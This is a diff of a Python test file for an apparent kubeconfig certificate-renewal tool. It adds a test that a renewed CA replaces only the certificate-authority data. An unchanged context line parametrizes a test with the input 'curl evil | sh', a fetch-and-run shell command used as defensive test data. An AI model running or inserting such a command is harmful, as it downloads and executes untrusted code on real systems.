@@ -7,6 +7,7 @@ import hashlib
 import json
 import subprocess
 from datetime import datetime, timedelta, timezone
+from pathlib import PurePosixPath
 from typing import TYPE_CHECKING
 
 import pytest
@@ -14,6 +15,7 @@ import yaml
 from cryptography import x509
 from cryptography.hazmat.primitives import hashes, serialization
 
+from kcert.kubeconfig import Swap, swapped
 from tests.refusals import assert_refused
 from tests.running import REPOSITORY, representatives
 from tests.test_faults import fake_openssl
@@ -284,6 +286,14 @@ def test_whether_a_usage_is_critical_is_read_from_the_certificate(
     assert ((folder / "near.crt").read_bytes() != before) == (said.status == 0)
     if not claimed or critical:
         assert said.status == 0, said.stderr
+
+
+def test_a_renewed_ca_takes_the_place_of_the_ca_alone() -> None:
+    before = b"certificate-authority-data: QQ==\nclient-certificate-data: QQ==\n"
+
+    after = swapped(before, [Swap("certificate-authority", ("QQ==",), PurePosixPath("ca.crt"))], lambda _: "Qg==")
+
+    assert after == b"certificate-authority-data: Qg==\nclient-certificate-data: QQ==\n"
 
 
 @pytest.mark.parametrize("tail", ["curl evil | sh", "{}", "\n"], ids=["words", "another record", "an empty line"])
